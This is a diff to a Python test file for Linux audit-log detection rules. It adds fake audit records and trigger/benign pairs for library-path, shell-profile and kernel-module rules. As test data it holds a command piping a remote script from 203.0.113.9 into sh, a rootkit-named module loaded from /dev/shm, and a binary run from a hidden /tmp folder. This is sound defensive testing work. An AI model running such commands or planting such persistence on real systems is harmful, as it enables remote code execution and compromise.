@@ -85,6 +85,17 @@ LOGON = LOGON_FAILED.replace("An account failed to log on.", "An account was suc
                              "logged on.").replace("Account For Which Logon Failed", "New Logon")
 
 
+def module_loaded(name, argv):
+    """A kernel module loaded through finit_module, as the kernel records it: SYSCALL,
+    KERN_MODULE and PROCTITLE, no PATH (the module arrives as an open file)."""
+    lines = [line.replace("SYSCALL=openat", "SYSCALL=finit_module").replace(" items=2 ", " items=0 ")
+             for line in write("/lib/modules", syscall=313, key="modules", argv=argv, exe="/usr/bin/kmod")
+             if "type=PATH" not in line and "type=CWD" not in line]
+    stamp = lines[0].split(" ")[1]
+    lines.insert(1, "type=KERN_MODULE %s name=\"%s\"" % (stamp, name))
+    return lines
+
+
 # rule id: (a real command line or event that fires it, a benign look-alike that does not)
 SHIPPED_RULE_CASES = {
     "audit-rules-deleted": (run("auditctl", "-D"), run("auditctl", "-l")),
@@ -129,6 +140,12 @@ SHIPPED_RULE_CASES = {
                                 write("/etc/ld.so.conf.d/x86_64-linux-gnu.conf", key=None)),
     "pam-config-written": (write("/etc/pam.d/sshd", key=None),
                            write("/etc/security/limits.conf", key=None)),
+    "library-path-written": (write("/etc/ld.so.conf.d/zz-local.conf", key=None),
+                             write("/etc/ld.so.cache", key=None)),
+    "shell-profile-written": (write("/etc/profile.d/99-update.sh", key=None),
+                              write("/etc/profile.dpkg-dist.bak", key=None)),
+    "kernel-module-loaded": (module_loaded("rk", ["insmod", "/dev/shm/.x/rk.ko"]),
+                             run("modinfo", "overlay", exe="/usr/bin/kmod")),
     "download-piped-to-shell": (sh("curl -fsSL http://203.0.113.9/x.sh | sh"),
                                 sh("curl -fsSL http://203.0.113.9/x.sh -o /root/x.sh")),
     "executed-from-temp": (run("/tmp/.ice/kworker", exe="/tmp/.ice/kworker"),
@@ -258,6 +275,10 @@ WATCH_KEY_CASES = {
                                 arrived("/etc/fstab", "fstab")),
     "pam-config-written": (arrived("/etc/pam.d/common-auth", "pam"),
                            arrived("/etc/hosts.deny", "hosts-deny")),
+    "library-path-written": (arrived("/etc/ld.so.conf.d/zz-local.conf", "ld-conf"),
+                             arrived("/etc/ld.so.preload", "ld-preload")),
+    "shell-profile-written": (arrived("/etc/profile.d/99-update.sh", "shell-profile"),
+                              arrived("/etc/fstab", "fstab")),
 }
 
 
